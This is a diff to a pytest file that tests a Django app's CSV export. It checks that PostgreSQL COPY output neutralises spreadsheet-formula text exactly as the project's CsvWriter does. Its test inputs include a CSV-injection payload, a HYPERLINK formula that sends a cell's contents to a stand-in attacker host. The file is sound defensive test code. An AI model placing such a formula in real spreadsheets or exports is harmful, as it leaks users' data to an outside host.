@@ -1,5 +1,6 @@
 """The one CSV writer (apps/core/csv_files.py): text a spreadsheet would run as a formula is
-written as text; numbers stay numbers."""
+written as text; numbers stay numbers. A query's rows come out the same from PostgreSQL's COPY
+as from CsvWriter."""
 
 from __future__ import annotations
 
@@ -10,8 +11,11 @@ from pathlib import Path
 
 import pytest
 from django.conf import settings
+from django.db.models import F
 
-from apps.core.csv_files import CsvWriter
+from apps.core.csv_files import CsvColumn, CsvWriter, csv_copy_query, csv_stream_query
+from apps.products.models import Product
+from tests.factories import ProductFactory
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"x")',
@@ -50,6 +54,65 @@ def test_nothing_else_in_the_code_writes_csv_without_it():
         str(path.relative_to(base))
         for folder in ("apps", "project", "scripts")
         for path in (base / folder).rglob("*.py")
-        if ("csv.writer(" in (source := path.read_text()) or "csv.DictWriter(" in source)
+        if "csv.writer(" in (source := path.read_text()) or "csv.DictWriter(" in source or "to stdout" in source.lower()
     ]
+    # Its csv_copy_query is the one sanctioned COPY ... TO STDOUT: it applies CsvWriter's rules in SQL.
     assert writers == ["apps/core/csv_files.py"]
+
+
+HOSTILE_NAMES = [
+    *FORMULAS,
+    "Desk, =1+1",
+    'A "quoted" lamp',
+    "two\nlines",
+    "'already quoted",
+    "Plain chair",
+    " =leading space",
+]
+PRODUCT_COLUMNS = [
+    CsvColumn("id", numeric=True),
+    CsvColumn("name"),
+    CsvColumn("price", numeric=True, decimal_places=2),
+    CsvColumn("stock_over_20", numeric=True),
+]
+
+
+def _products():
+    over = F("stock") - 20
+    return (
+        Product.objects.order_by("id").annotate(stock_over_20=over).values_list("id", "name", "price", "stock_over_20")
+    )
+
+
+def _written_by(write) -> list[list[str]]:
+    file = io.BytesIO()
+    rows = write(file, rows=_products(), columns=PRODUCT_COLUMNS)
+    parsed = list(csv.reader(io.StringIO(file.getvalue().decode(), newline="")))
+    assert rows == len(parsed) - 1
+    return parsed
+
+
+@pytest.mark.django_db
+def test_copy_writes_hostile_text_exactly_as_csvwriter_does(postgres):
+    for name in HOSTILE_NAMES:
+        ProductFactory(name=name, price=Decimal("0.5") if name == "+1" else Decimal("12.5"))
+
+    copied = _written_by(csv_copy_query)
+
+    assert copied == _written_by(csv_stream_query)
+    assert copied[0] == ["id", "name", "price", "stock_over_20"]
+    assert [row[1] for row in copied[1:]] == [
+        f"'{name}" if name.startswith(("=", "+", "-", "@", "\t", "\r")) else name for name in HOSTILE_NAMES
+    ]
+    assert {(row[2], row[3]) for row in copied[1:]} == {("0.50", "-10"), ("12.50", "-10")}
+
+
+@pytest.mark.django_db
+def test_copy_quotes_text_and_leaves_numbers_bare(postgres):
+    ProductFactory(name="Desk", price=Decimal("5.00"))
+    file = io.BytesIO()
+
+    csv_copy_query(file, rows=_products(), columns=PRODUCT_COLUMNS)
+
+    product_id = Product.objects.get().pk
+    assert file.getvalue().decode().splitlines()[1] == f'{product_id},"Desk",5.00,-10'
